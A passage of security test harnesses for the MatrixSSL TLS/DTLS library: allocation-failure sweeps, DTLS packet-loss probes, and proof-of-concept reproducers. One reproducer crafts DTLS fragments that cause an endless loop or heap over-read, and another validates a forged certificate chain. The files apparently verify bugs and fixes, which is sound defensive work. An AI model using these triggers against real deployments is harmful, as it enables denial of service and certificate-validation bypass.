    show("client, TLS 1.2 only", p.cl);

    ok = hRun(&p, NULL, NULL);
    printf("TLS 1.2-only client <-> default server: %s (alert seen by "
        "client: %d)\n", ok ? "completed" : "FAILED", p.clAlert);
    if (!ok)
    {
        printf("OBSERVATION: both endpoints have TLS 1.2 compiled in, the "
            "client enabled it and the server did not disable it, yet no "
            "version is negotiated (the handshake fails closed)\n");
        bad = 1;
    }
    hFree(&p);

    /* and a client with all-default options, for the record */
    memset(&co, 0, sizeof(co));
    if (matrixSslNewClientSession(&p.cl, ck, NULL, NULL, 0, hCertCb, NULL,
            NULL, NULL, &co) == MATRIXSSL_REQUEST_SEND)
    {
        show("client, default options", p.cl);
    }
    hFree(&p);
    return bad;
}
