/* matrixSslReceivedData with an allocation failure while the TLS 1.3 server answers a ClientHello: whatever negative code comes
 * back, the session must be flagged (SSL_FLAGS_ERROR) - a failed call must not leave a session that still works.
 * Sweeps the index of the failing allocation.  Triage only.
 * build: cc -I/verif/replay -I$R -I$R/core/config -I$R/core/include -I$R/core/osdep/include -I$R/core/include/sfzcl sweep.c \
 *        -Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc $R/matrixssl/libssl_s.a $R/crypto/libcrypt_s.a $R/core/libcore_s.a -lpthread */
#include "harness.h"
#include "matrixssl/matrixssllib.h"
void *__real_malloc(size_t n); void *__real_calloc(size_t a, size_t b); void *__real_realloc(void *p, size_t n);
static int failAt = -1, count;
static int tick(void) { return failAt >= 0 && count++ == failAt; }
void *__wrap_malloc(size_t n) { return tick() ? NULL : __real_malloc(n); }
void *__wrap_calloc(size_t a, size_t b) { return tick() ? NULL : __real_calloc(a, b); }
void *__wrap_realloc(void *p, size_t n) { return tick() ? NULL : __real_realloc(p, n); }

int main(void)
{
    hPeer c = {0}, s = {0};
    unsigned char ch[4096], *buf, *pt; uint32 ptLen; int chLen, k, bad = 0, neg = 0;
    int32 rc, n;
    if (h_new_client(&c, SSL_FLAGS_TLS_1_3, NULL, 0, h_certCbAllowAll) < 0) return 2;
    chLen = h_drain(&c, ch, sizeof(ch));
    if (chLen <= 0) return 2;
    if (h_server_keys(&s) < 0) return 2;
    for (k = 0; k < 5600; k++)
    {
        s.ssl = NULL;
        if (h_new_server(&s, SSL_FLAGS_TLS_1_3) < 0) return 2;
        n = matrixSslGetReadbuf(s.ssl, &buf);
        if (n < chLen) return 2;
        memcpy(buf, ch, chLen);
        count = 0; failAt = k;
        rc = matrixSslReceivedData(s.ssl, chLen, &pt, &ptLen);
        failAt = -1;
        
        if (rc < 0)
        {
            neg++;
            if (!(s.ssl->flags & SSL_FLAGS_ERROR))
            {
                printf("allocation %d fails: matrixSslReceivedData = %d, SSL_FLAGS_ERROR NOT set\n", k, (int) rc);
                bad++;
            }
        }
        matrixSslDeleteSession(s.ssl);
    }
    printf("%d failing runs, %d left the session unflagged\n", neg, bad);
    printf(bad ? "DEFECT\n" : "OK\n");
    return bad ? 1 : 0;
}
