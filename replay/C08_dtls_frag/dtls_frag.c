#include "harness.h"
#include "matrixssl/matrixssllib.h"
#include <signal.h>
#include <unistd.h>
/* C08: unauthenticated DTLS handshake fragments (ClientHello to a fresh server / ServerHello to a client that has sent its hello).
   mode "hang":     message length 20: (off 0,len 10) (off 10,len 0) (off 5,len 10): fragTotal reaches 20 with an empty
                    fragment stored; dtlsHsHashFragMsg finds the (10,0) header again and again -> endless loop.
   mode "overread": first fragment announces 100 bytes (buffer of 100), later overlapping fragments announce 258 and stay
                    inside the buffer: (0,50) (1,99) (2,98) (3,11) sum to 258 -> the "complete" message is parsed with
                    end = fragMessage + 258 (run under AddressSanitizer: heap-buffer-overflow READ). */
static unsigned char g_seq; static int g_suite = 0x003c, g_type = 1;
static int frag(unsigned char *out, int msgLen, int off, int len, unsigned char fill)
{
    unsigned char *p = out;
    *p++ = 22; *p++ = 0xfe; *p++ = 0xfd; *p++ = 0; *p++ = 0;              /* handshake, DTLS 1.2, epoch 0 */
    *p++ = 0; *p++ = 0; *p++ = 0; *p++ = 0; *p++ = 0; *p++ = g_seq++;       /* record sequence number */
    *p++ = (12 + len) >> 8; *p++ = (12 + len) & 0xff;
    *p++ = g_type;                                                           /* ClientHello / ServerHello */
    *p++ = msgLen >> 16; *p++ = msgLen >> 8; *p++ = msgLen;
    *p++ = 0; *p++ = 0;                                                      /* message_seq 0 */
    *p++ = off >> 16; *p++ = off >> 8; *p++ = off;
    *p++ = len >> 16; *p++ = len >> 8; *p++ = len;
    if (fill == 0xEE)
    {
        /* slice of a ServerHello body: version, random, empty session id, suite, compression, extensions length 218, then
           empty extensions of an unknown type up to the end of the 100-byte buffer */
        static unsigned char T[100]; int i;
        memset(T, 0x11, sizeof(T)); T[0] = 0xfe; T[1] = 0xfd; T[34] = 0; T[35] = g_suite >> 8; T[36] = g_suite & 0xff; T[37] = 0;
        T[38] = 0x00; T[39] = 218;
        for (i = 40; i < 100; i += 4) { T[i] = 0x77; T[i + 1] = 0x77; T[i + 2] = 0; T[i + 3] = 0; }
        memcpy(p, T + off, len);
    }
    else memset(p, fill, len);
    p += len;
    return (int) (p - out);
}
static void on_alarm(int s) { (void) s; printf("RESULT VIOLATED (matrixSslReceivedData did not return within 5 s of CPU: endless loop)\n"); fflush(stdout); _exit(1); }
int main(int argc, char **argv)
{
    hPeer s = {0};
    unsigned char d[600]; int n, rc;
    const char *mode = argc > 1 ? argv[1] : "hang";
    if (h_new_server(&s, SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2) < 0) return 2;
    signal(SIGALRM, on_alarm); alarm(5);
    if (!strcmp(mode, "hang"))
    {
        n = frag(d, 20, 0, 10, 3);  rc = h_feed(&s, d, n); printf("(0,10)  rc=%d\n", rc);
        n = frag(d, 20, 10, 0, 3);  rc = h_feed(&s, d, n); printf("(10,0)  rc=%d\n", rc);
        n = frag(d, 20, 5, 10, 3);  rc = h_feed(&s, d, n); printf("(5,10)  rc=%d\n", rc);
    }
    else
    {
        /* real cookie exchange first; then the client's second ClientHello, re-fragmented by the attacker: the first fragment
           announces the true length L (reassembly buffer of L bytes), the others announce L + 158 and overlap so that the
           lengths add up to L + 158; the extensions length inside the message is raised by 158 as well */
        static unsigned char w[4096], m[2048]; hPeer c = {0}; unsigned char *b; int32 k; int L, p, i, off, left;
        if (h_new_client(&c, SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2, NULL, 0, h_certCbAllowAll) < 0) return 2;
        k = matrixDtlsGetOutdata(c.ssl, &b); memcpy(w, b, k); matrixDtlsSentData(c.ssl, k); h_feed(&s, w, k);          /* CH1 */
        k = matrixDtlsGetOutdata(s.ssl, &b); memcpy(w, b, k); matrixDtlsSentData(s.ssl, k); h_feed(&c, w, k);          /* HVR */
        k = matrixDtlsGetOutdata(c.ssl, &b); memcpy(w, b, k); matrixDtlsSentData(c.ssl, k);                           /* CH2 */
        L = (w[14] << 16) | (w[15] << 8) | w[16]; memcpy(m, w + 25, L);
        p = 34; p += 1 + m[p]; p += 1 + m[p]; p += 2 + ((m[p] << 8) | m[p + 1]); p += 1 + m[p];       /* -> extensions length */
        i = ((m[p] << 8) | m[p + 1]) + 158; m[p] = i >> 8; m[p + 1] = i & 0xff;
        printf("ClientHello with cookie: %d bytes, message_seq %d\n", L, (w[17] << 8) | w[18]);
        g_seq = 10;
#define FR(msgLen, o, l) do { unsigned char *q = d; int t_ = (l); \
            *q++ = 22; *q++ = 0xfe; *q++ = 0xfd; *q++ = 0; *q++ = 0; *q++ = 0; *q++ = 0; *q++ = 0; *q++ = 0; *q++ = 0; *q++ = g_seq++; \
            *q++ = (12 + t_) >> 8; *q++ = (12 + t_) & 0xff; *q++ = 1; *q++ = (msgLen) >> 16; *q++ = (msgLen) >> 8; *q++ = (msgLen); \
            *q++ = w[17]; *q++ = w[18]; *q++ = (o) >> 16; *q++ = (o) >> 8; *q++ = (o); *q++ = t_ >> 16; *q++ = t_ >> 8; *q++ = t_; \
            memcpy(q, m + (o), t_); q += t_; rc = h_feed(&s, d, (int) (q - d)); \
            printf("len %d (%d,%d)  rc=%d\n", (int) (msgLen), (int) (o), t_, rc); } while (0)
        FR(L, 0, L / 2);
        left = L + 158 - L / 2; off = 1;
        while (left > 0 && rc >= 0) { int l = left < L - off ? left : L - off; FR(L + 158, off, l); left -= l; off++; }
    }
    printf("RESULT ok (returned; server err=%d closed=%d)\n", s.ssl->err, s.closed);
    return 0;
}
