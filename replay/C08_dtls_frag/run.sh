#!/bin/sh
# usage: run.sh [git rev of /repo | WORKTREE]  - both modes against an AddressSanitizer build
sh /verif/replay/C08_asan/build_asan.sh ${1:-WORKTREE} || exit 2
R=/tmp/asan_tree
clang -fsanitize=address -g -o /tmp/dtls_frag_asan /verif/replay/C08_dtls_frag/dtls_frag.c -I/verif/replay -I$R -I$R/core/config -I$R/core/include \
  -I$R/core/osdep/include -I$R/core/include/sfzcl $R/matrixssl/libssl_s.a $R/crypto/libcrypt_s.a $R/core/libcore_s.a -lpthread -w || exit 2
ASAN_OPTIONS=detect_leaks=0 /tmp/dtls_frag_asan hang; ASAN_OPTIONS=detect_leaks=0 /tmp/dtls_frag_asan overread 2>&1 | head -12
# before the fix (rev ab3f378): hang -> "did not return within 5 s"; overread -> heap-buffer-overflow READ in ClientHelloExt
# after: both return; the fragment that disagrees on the message length is refused with decode_error
