/* Triage replay for a C19 observation of a seeding sub-agent (read-only there, run here): psX509ParseCertData() with
   CERT_ALLOW_BUNDLE_PARTIAL_PARSE and a PEM bundle: when the allocation of the psX509Cert_t container inside
   psX509ParseCert() fails, `current` is NULL, the error is tolerated by the partial-parse flag and the loop executes
   `*tailp = current; tailp = &(current->next);` - the next iteration then writes through a near-NULL pointer.
   Every allocation of the call is failed in turn (malloc / calloc / realloc wrapped at link time).
   exit 1: some single allocation failure kills the process with a signal ; exit 0: all are reported as errors / counts. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <unistd.h>
#include <sys/wait.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"
static long g_n, g_fail = -1;
void *__real_malloc(size_t); void *__real_calloc(size_t, size_t); void *__real_realloc(void *, size_t);
void *__wrap_malloc(size_t n) { if (++g_n == g_fail) return NULL; return __real_malloc(n); }
void *__wrap_calloc(size_t a, size_t b) { if (++g_n == g_fail) return NULL; return __real_calloc(a, b); }
void *__wrap_realloc(void *p, size_t n) { if (++g_n == g_fail) return NULL; return __real_realloc(p, n); }
static unsigned char *rd(const char *p, int *n) { FILE *f = fopen(p, "rb"); unsigned char *b; if (!f) { perror(p); exit(2); } b = __real_malloc(1 << 16); *n = fread(b, 1, 1 << 16, f); fclose(f); return b; }
int main(int argc, char **argv)
{
    int n1, n2, total, k, bad = 0;
    const char *repo = argc > 1 ? argv[1] : "/repo";
    char p1[512], p2[512];
    unsigned char *a, *b, *bundle;
    psX509Cert_t *certs = NULL;
    snprintf(p1, sizeof p1, "%s/testkeys/RSA/2048_RSA.pem", repo);
    snprintf(p2, sizeof p2, "%s/testkeys/RSA/2048_RSA_CA.pem", repo);
    a = rd(p1, &n1); b = rd(p2, &n2);
    bundle = __real_malloc(n1 + n2 + 1); memcpy(bundle, a, n1); memcpy(bundle + n1, b, n2);
    matrixSslOpen();
    g_n = 0;
    total = psX509ParseCertData(NULL, bundle, n1 + n2, &certs, CERT_ALLOW_BUNDLE_PARTIAL_PARSE);
    printf("fault-free: psX509ParseCertData = %d, %ld allocations\n", total, g_n);
    total = (int) g_n;
    for (k = 1; k <= total; k++)
    {
        pid_t pid;
        int st;
        fflush(stdout);
        pid = fork();
        if (pid == 0)
        {
            psX509Cert_t *c2 = NULL;
            int rc;
            g_n = 0; g_fail = k;
            rc = psX509ParseCertData(NULL, bundle, n1 + n2, &c2, CERT_ALLOW_BUNDLE_PARTIAL_PARSE);
            g_fail = -1;
            psX509FreeCert(c2);
            _exit(rc < -1000 ? 3 : 0);
        }
        waitpid(pid, &st, 0);
        if (WIFSIGNALED(st))
        {
            printf("allocation #%d failing: killed by signal %d\n", k, WTERMSIG(st));
            bad++;
        }
    }
    printf("%s: %d of %d single allocation failures crash the parser\n", bad ? "DEFECT" : "OK", bad, total);
    return bad != 0;
}
