#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"
/* C03.R1 finding (F2): ALLOW_INTERMEDIATES_AS_ROOTS accepts a certificate as 'identical to the trust anchor'
   on equality of the (public) signature bytes alone. */
static unsigned char *rd(const char *p, int *n) { FILE *f = fopen(p, "rb"); unsigned char *b = malloc(8192); *n = fread(b, 1, 8192, f); fclose(f); return b; }
static int validate(const char *leaf, const char *inter, const char *anchor)
{
    int ln, in_, an; unsigned char *l = rd(leaf, &ln), *i = rd(inter, &in_), *a = rd(anchor, &an);
    psX509Cert_t *chain = NULL, *ic = NULL, *ca = NULL, *found = NULL;
    unsigned char *both = malloc(ln + in_);
    if (psX509ParseCert(NULL, l, ln, &chain, 0) < 0) { printf("leaf parse fail\n"); return -100; }
    if (psX509ParseCert(NULL, i, in_, &ic, 0) < 0) { printf("intermediate parse fail\n"); return -101; }
    chain->next = ic;
    if (psX509ParseCert(NULL, a, an, &ca, 0) < 0) { printf("anchor parse fail\n"); return -102; }
    int rc = matrixValidateCerts(NULL, chain, ca, NULL, &found, NULL, NULL);
    printf("  matrixValidateCerts rc=%d leaf.authStatus=%d inter.authStatus=%d\n", rc, chain->authStatus, ic->authStatus);
    return rc;
}
int main(void)
{
    matrixSslOpen();
    printf("honest intermediate not issued by the anchor:\n");
    int r1 = validate("L.der", "X.der", "T.der");
    printf("same intermediate with the anchor's signature bytes copied in:\n");
    int r2 = validate("L.der", "Xforged.der", "T.der");
    printf("RESULT %s\n", (r1 < 0 && r2 >= 0) ? "VIOLATED (forged chain validates)" : (r1 < 0 && r2 < 0 ? "ok" : "unexpected"));
    return (r2 >= 0);
}
