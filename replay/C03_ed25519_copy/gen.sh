set -e
D=/tmp/ed25519gen
cat > $D/ext.cnf <<'X'
[ca]
basicConstraints=critical,CA:TRUE
keyUsage=critical,keyCertSign,cRLSign
subjectKeyIdentifier=hash
[leaf]
basicConstraints=CA:FALSE
keyUsage=digitalSignature
X
openssl genpkey -algorithm ed25519 -out $D/R.key
openssl req -new -x509 -key $D/R.key -subj "/CN=R" -days 3650 -out $D/R.pem -addext "basicConstraints=critical,CA:TRUE" -addext "keyUsage=critical,keyCertSign"
openssl genpkey -algorithm ed25519 -out $D/T.key
openssl req -new -key $D/T.key -subj "/CN=T" -out $D/T.csr
openssl x509 -req -in $D/T.csr -CA $D/R.pem -CAkey $D/R.key -CAcreateserial -days 3650 -extfile $D/ext.cnf -extensions ca -out $D/T.pem
openssl genpkey -algorithm ed25519 -out $D/R2.key
openssl req -new -x509 -key $D/R2.key -subj "/CN=R" -days 3650 -out $D/R2.pem -addext "basicConstraints=critical,CA:TRUE"
openssl genpkey -algorithm ed25519 -out $D/X.key
openssl req -new -key $D/X.key -subj "/CN=T" -out $D/X.csr
openssl x509 -req -in $D/X.csr -CA $D/R2.pem -CAkey $D/R2.key -CAcreateserial -days 3650 -extfile $D/ext.cnf -extensions ca -out $D/X.pem
openssl genpkey -algorithm ed25519 -out $D/L.key
openssl req -new -key $D/L.key -subj "/CN=leaf" -out $D/L.csr
openssl x509 -req -in $D/L.csr -CA $D/X.pem -CAkey $D/X.key -CAcreateserial -days 3650 -extfile $D/ext.cnf -extensions leaf -out $D/L.pem
for f in T X L; do openssl x509 -in $D/$f.pem -outform DER -out $D/$f.der; done
