/* scratch: does the session cache hand out a session that never finished client auth? */
#include "h.h"

static int32 cbOk(ssl_t *ssl, psX509Cert_t *cert, int32 alert) { return alert; }

int main(void)
{
    sslKeys_t *sk, *ck, *ck2;
    ssl_t *sv, *cl, *sv2, *cl2;
    sslSessOpts_t so, co;
    sslSessionId_t *sid;
    psCipher16_t cs = 0x002F;
    unsigned char *d; int32 n, rc, off, k;

    matrixSslOpen();
    matrixSslNewKeys(&sk, NULL); matrixSslNewKeys(&ck, NULL); matrixSslNewKeys(&ck2, NULL);
    rc = matrixSslLoadRsaKeys(sk, kp("RSA/2048_RSA.pem"), kp("RSA/2048_RSA_KEY.pem"), NULL, kp("RSA/ALL_RSA_CAS.pem"));
    printf("load sk %d\n", rc);
    rc = matrixSslLoadRsaKeys(ck, kp("RSA/3072_RSA.pem"), kp("RSA/3072_RSA_KEY.pem"), NULL, kp("RSA/ALL_RSA_CAS.pem"));
    printf("load ck %d\n", rc);
    rc = matrixSslLoadRsaKeys(ck2, NULL, NULL, NULL, kp("RSA/ALL_RSA_CAS.pem"));
    printf("load ck2 %d\n", rc);

    memset(&so, 0, sizeof so); so.versionFlag = SSL_FLAGS_TLS_1_2;
    memset(&co, 0, sizeof co); co.versionFlag = SSL_FLAGS_TLS_1_2;
    rc = matrixSslNewServerSession(&sv, sk, cbOk, &so); printf("new sv %d\n", rc);
    matrixSslNewSessionId(&sid, NULL);
    rc = matrixSslNewClientSession(&cl, ck, sid, &cs, 1, cbOk, "localhost", NULL, NULL, &co);
    printf("new cl %d\n", rc);

    n = take(cl, &d); rc = feed(sv, d, n); printf("CH -> sv rc %d\n", rc); free(d);
    n = take(sv, &d); rc = feed(cl, d, n); printf("SH.. -> cl rc %d (n=%d)\n", rc, n); free(d);
    n = take(cl, &d); printf("client flight %d bytes\n", n);
    off = 0; k = 0;
    while (off < n)
    {
        int rl = 5 + ((d[off + 3] << 8) | d[off + 4]);
        printf(" rec %d type %d len %d hs0 %d\n", k, d[off], rl, d[off+5]);
        if (k < 2) { rc = feed(sv, d + off, rl); printf("  fed: rc %d hsState %d\n", rc, sv->hsState); }
        off += rl; k++;
    }
    printf("server1 complete? %d\n", matrixSslHandshakeIsComplete(sv));

    /* second connection: resume with the id + master secret of connection 1 */
    memcpy(sid->id, cl->sessionId, SSL_MAX_SESSION_ID_SIZE);
    sid->idLen = cl->sessionIdLen;
    memcpy(sid->masterSecret, cl->sec.masterSecret, SSL_HS_MASTER_SIZE);
    sid->cipherId = cs;
    memset(&so, 0, sizeof so); so.versionFlag = SSL_FLAGS_TLS_1_2;
    memset(&co, 0, sizeof co); co.versionFlag = SSL_FLAGS_TLS_1_2;
    matrixSslNewServerSession(&sv2, sk, cbOk, &so);
    rc = matrixSslNewClientSession(&cl2, ck2, sid, &cs, 1, cbOk, "localhost", NULL, NULL, &co);
    printf("new cl2 %d idLen %d\n", rc, sid->idLen);
    rc = pump(cl2, sv2);
    printf("second connection complete=%d  server resumed=%d client_auth flag=%d\n", rc,
        !!(sv2->flags & SSL_FLAGS_RESUMED), !!(sv2->flags & SSL_FLAGS_CLIENT_AUTH));
    return 0;
}
