/* scratch harness: in-memory client/server pair */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixsslImpl.h"

static const char *KEYDIR = "/tmp/seed9_C04/testkeys";

static char *kp(const char *rel)
{
    static char bufs[8][512];
    static int n;
    char *b = bufs[n++ & 7];
    snprintf(b, 512, "%s/%s", KEYDIR, rel);
    return b;
}

/* feed len bytes to dst; returns last rc of matrixSslReceivedData, <0 fatal */
static int32 feed(ssl_t *dst, const unsigned char *data, int32 len)
{
    int32 rc = 0;
    unsigned char *buf, *pt;
    uint32 ptLen;
    while (len > 0)
    {
        int32 avail = matrixSslGetReadbuf(dst, &buf);
        int32 n = len < avail ? len : avail;
        if (avail <= 0) return -100;
        memcpy(buf, data, n);
        data += n; len -= n;
        rc = matrixSslReceivedData(dst, n, &pt, &ptLen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
        {
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                printf("   [alert received level %d desc %d]\n", pt[0], pt[1]);
                if (pt[0] == 2) return -200 - pt[1];
            }
            rc = matrixSslProcessedData(dst, &pt, &ptLen);
        }
        if (rc < 0) return rc;
    }
    return rc;
}

/* take all pending output of src into out (malloc'd), returns length */
static int32 take(ssl_t *src, unsigned char **out)
{
    unsigned char *buf, *acc = NULL;
    int32 total = 0, n;
    while ((n = matrixSslGetOutdata(src, &buf)) > 0)
    {
        acc = realloc(acc, total + n);
        memcpy(acc + total, buf, n);
        total += n;
        matrixSslSentData(src, n);
    }
    *out = acc;
    return total;
}

/* run the handshake to the end; returns 1 if both sides complete, 0 otherwise */
static int pump(ssl_t *cl, ssl_t *sv)
{
    int i;
    for (i = 0; i < 20; i++)
    {
        unsigned char *d; int32 n, rc;
        int moved = 0;
        n = take(cl, &d);
        if (n > 0) { moved = 1; rc = feed(sv, d, n); free(d);
            if (rc < 0) { printf("   server rejected: rc=%d err=%d\n", rc, sv->err); return 0; } }
        n = take(sv, &d);
        if (n > 0) { moved = 1; rc = feed(cl, d, n); free(d);
            if (rc < 0) { printf("   client rejected: rc=%d err=%d\n", rc, cl->err); return 0; } }
        if (!moved) break;
    }
    return matrixSslHandshakeIsComplete(cl) && matrixSslHandshakeIsComplete(sv);
}
