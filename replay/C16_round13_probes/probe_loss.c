/*
 * probe_loss.c - side observation probe (UNMODIFIED code).
 *
 * Drops each whole flight (one lock-step turn) once, for a set of
 * configurations, and reports whether the handshake still completes through
 * the timeout driven retransmission.
 *
 * usage: probe_loss [-v] [ver pmtu clientAuth tickets cipher dropTurn]
 */
#include "dtlsnet.h"

static int dropTurn = -1;

static int schedDropFlight(int turn, int fromServer, int idx, int n,
    const dgram_t *d)
{
    (void) idx; (void) n; (void) d; (void) fromServer;
    if (turn == dropTurn)
    {
        return ACT_DROP;
    }
    return ACT_DELIVER;
}

static int one(const cfg_t *cfg)
{
    peer_t c, s;
    int rc;

    forgetSession();
    if (newPair(cfg, &c, &s) < 0)
    {
        return -9;
    }
    rc = runHandshake(&c, &s, schedDropFlight, 40);
    delPair(&c, &s);
    return rc;
}

int main(int argc, char **argv)
{
    cfg_t cfg;
    int bad = 0, t, rc, a = 1;
    static const psCipher16_t suites[] = { 0x002F /* RSA AES128-SHA */,
        0x009C /* RSA AES128-GCM */, 0xC013 /* ECDHE-RSA AES128-SHA */,
        0xC02F /* ECDHE-RSA AES128-GCM */ };
    unsigned i;
    int ca, tk;

    if (argc > 1 && strcmp(argv[1], "-v") == 0)
    {
        g_verbose = 1;
        a++;
    }
    memset(&cfg, 0, sizeof(cfg));
    cfg.version = SSL_FLAGS_TLS_1_2;
    cfg.pmtu = 1400;
    if (argc - a >= 6)
    {
        cfg.version = atoi(argv[a]) == 10 ? SSL_FLAGS_TLS_1_1 : SSL_FLAGS_TLS_1_2;
        cfg.pmtu = atoi(argv[a + 1]);
        cfg.clientAuth = atoi(argv[a + 2]);
        cfg.tickets = atoi(argv[a + 3]);
        cfg.cipher = (psCipher16_t) strtol(argv[a + 4], NULL, 16);
        dropTurn = atoi(argv[a + 5]);
        if (netOpen(&cfg) < 0)
        {
            return 2;
        }
        rc = one(&cfg);
        printf("rc %d (%s)\n", rc, rc == 0 ? "completes" : rc == -1 ?
            "FATAL ERROR" : "NEVER COMPLETES");
        return rc != 0;
    }

    for (ca = 0; ca <= 1; ca++)
    {
        for (tk = 0; tk <= 1; tk++)
        {
            cfg.clientAuth = ca;
            cfg.tickets = tk;
            if (netOpen(&cfg) < 0)
            {
                return 2;
            }
            for (i = 0; i < sizeof(suites) / sizeof(suites[0]); i++)
            {
                cfg.cipher = suites[i];
                printf("clientAuth=%d tickets=%d suite=%04X :", ca, tk,
                    suites[i]);
                for (t = -1; t <= 5; t++)
                {
                    dropTurn = t;
                    rc = one(&cfg);
                    printf(" drop%-2d=%s", t, rc == 0 ? "ok" : rc == -1 ?
                        "FATAL" : "HANG");
                    if (rc != 0)
                    {
                        bad = 1;
                    }
                }
                printf("\n");
            }
            matrixSslDeleteKeys(g_skeys);
            matrixSslDeleteKeys(g_ckeys);
            matrixSslClose();
        }
    }
    return bad;
}
