/*
 * probe_pack.c - side observation probe (UNMODIFIED code).
 *
 * One datagram that carries records the receiver skips (the sender's
 * retransmitted ChangeCipherSpec, old epoch, and Finished, newer epoch)
 * followed by TWO fresh application records.  A MatrixSSL sender produces
 * it when the application queues data right after the retransmission timer
 * rebuilt the last flight and before the flight was flushed:
 * matrixDtlsGetOutdata packs as many whole records as fit the path MTU.
 *
 * matrixSslDecode skips the leading records inside ONE call (goto
 * decodeMore) and returns the first application record;
 * matrixSslProcessedData then locates the rest of the datagram at
 * inbuf + (length of the LAST record), i.e. it assumes the returned record
 * was the first thing in the buffer.
 */
#include "dtlsnet.h"

int main(int argc, char **argv)
{
    cfg_t cfg;
    peer_t c, s;
    dgram_t dg[8];
    unsigned char *buf;
    int n, i, bad = 0;
    int32 len;

    g_verbose = argc > 1;
    memset(&cfg, 0, sizeof(cfg));
    cfg.version = SSL_FLAGS_TLS_1_2;
    cfg.cipher = 0x002F;
    cfg.pmtu = 1400;
    if (netOpen(&cfg) < 0 || newPair(&cfg, &c, &s) < 0)
    {
        return 2;
    }
    if (runHandshake(&c, &s, NULL, 20) != 0)
    {
        printf("handshake failed\n");
        return 2;
    }
    /* "one": ordinary, its own datagram */
    n = peerSendApp(&c, "one", dg, 8);
    for (i = 0; i < n; i++)
    {
        peerDeliver(&s, &dg[i]);
    }
    dgFree(dg, n);

    /* the client's timer fires: the flight is rebuilt in the out buffer ... */
    len = matrixDtlsGetOutdata(c.ssl, &buf);
    printf("client rebuilt its last flight: %d bytes pending\n", len);
    /* ... and before it is flushed the application queues two records */
    matrixSslEncodeToOutdata(c.ssl, (unsigned char *) "two", 3);
    matrixSslEncodeToOutdata(c.ssl, (unsigned char *) "three", 5);
    n = peerCollect(&c, dg, 8);
    printf("client emitted %d datagram(s), first is %d bytes\n", n,
        n ? dg[0].len : 0);
    for (i = 0; i < n; i++)
    {
        peerDeliver(&s, &dg[i]);
    }
    dgFree(dg, n);

    printf("server: fatal=%d, delivered:", s.fatal);
    for (i = 0; i < s.nApp; i++)
    {
        printf(" \"%s\"", s.app[i]);
    }
    printf("\n");
    if (s.fatal || countApp(&s, "two") != 1 || countApp(&s, "three") != 1)
    {
        printf("DEFECT: the datagram [CCS][Finished][\"two\"][\"three\"] was "
            "not handled: two=%d three=%d fatal=%d\n", countApp(&s, "two"),
            countApp(&s, "three"), s.fatal);
        bad = 1;
    }
    else
    {
        printf("ok\n");
    }
    return bad;
}
