/*
 * probe_resume.c - side observation probe (UNMODIFIED code).
 * Full DTLS handshake, then a resumed one (session id, or RFC 5077 ticket)
 * with one whole flight dropped.
 * usage: probe_resume [-v] tickets cipher
 */
#include "dtlsnet.h"

static int dropTurn = -1;

static int sched(int turn, int fromServer, int idx, int n, const dgram_t *d)
{
    (void) idx; (void) n; (void) d; (void) fromServer;
    return turn == dropTurn ? ACT_DROP : ACT_DELIVER;
}

int main(int argc, char **argv)
{
    cfg_t cfg;
    peer_t c, s;
    int a = 1, rc, t, bad = 0;

    if (argc > 1 && strcmp(argv[1], "-v") == 0)
    {
        g_verbose = 1;
        a++;
    }
    memset(&cfg, 0, sizeof(cfg));
    cfg.version = SSL_FLAGS_TLS_1_2;
    cfg.pmtu = 1400;
    cfg.tickets = argc - a > 0 ? atoi(argv[a]) : 0;
    cfg.cipher = argc - a > 1 ? (psCipher16_t) strtol(argv[a + 1], NULL, 16) : 0x2F;
    if (netOpen(&cfg) < 0)
    {
        return 2;
    }
    for (t = -1; t <= 4; t++)
    {
        int v = g_verbose;
        forgetSession();
        g_verbose = 0;
        dropTurn = -1;
        newPair(&cfg, &c, &s);
        rc = runHandshake(&c, &s, sched, 40);
        delPair(&c, &s);
        if (rc != 0)
        {
            printf("full handshake failed\n");
            return 2;
        }
        g_verbose = v;
        dropTurn = t;
        newPair(&cfg, &c, &s);
        rc = runHandshake(&c, &s, sched, 40);
        printf("resumed (%s), drop turn %2d: %s (server resumed=%d)\n",
            cfg.tickets ? "ticket" : "session id", t,
            rc == 0 ? "completes" : rc == -1 ? "FATAL" : "NEVER COMPLETES",
            (int) matrixSslIsResumedSession(s.ssl));
        if (rc != 0)
        {
            bad = 1;
        }
        delPair(&c, &s);
    }
    return bad;
}
