/*
 * probe_timer.c - side observation probe (UNMODIFIED code).
 *
 * Full (not resumed) DTLS handshake.  The server has received the client's
 * ClientKeyExchange and ChangeCipherSpec but the datagram with the client's
 * Finished is lost, so the server sits in hsState SSL_HS_FINISHED.  Its
 * retransmission timer fires first (the application calls
 * matrixDtlsGetOutdata with an empty out buffer, as apps/dtls/dtlsServer.c
 * does for a client it has not heard from).
 *
 * canResend() answers "yes" for a server in SSL_HS_FINISHED whether or not
 * the handshake is a resumed one, and sslEncodeResponse() then builds the
 * flight of a RESUMED handshake (ServerHello, ChangeCipherSpec, Finished).
 *
 * Each case runs in a child process so that a crash can be reported.
 */
#include <unistd.h>
#include <sys/wait.h>
#include "dtlsnet.h"

static int g_dropTurn, g_dropIdx;

static int sched(int turn, int fromServer, int idx, int n, const dgram_t *d)
{
    (void) fromServer; (void) n; (void) d;
    return (turn == g_dropTurn && idx == g_dropIdx) ? ACT_DROP : ACT_DELIVER;
}

static int child(const cfg_t *cfg)
{
    peer_t c, s;
    int rc;

    if (netOpen(cfg) < 0 || newPair(cfg, &c, &s) < 0)
    {
        return 9;
    }
    rc = runHandshake(&c, &s, sched, 40);
    return rc == 0 ? 0 : rc == -1 ? 1 : 2;
}

static int runCase(const cfg_t *cfg, int turn, int idx, const char *what)
{
    pid_t pid;
    int st = 0;

    g_dropTurn = turn;
    g_dropIdx = idx;
    fflush(stdout);
    pid = fork();
    if (pid == 0)
    {
        /* keep the library's assertion chatter out of the report */
        if (!g_verbose)
        {
            freopen("/dev/null", "w", stdout);
            freopen("/dev/null", "w", stderr);
        }
        _exit(child(cfg));
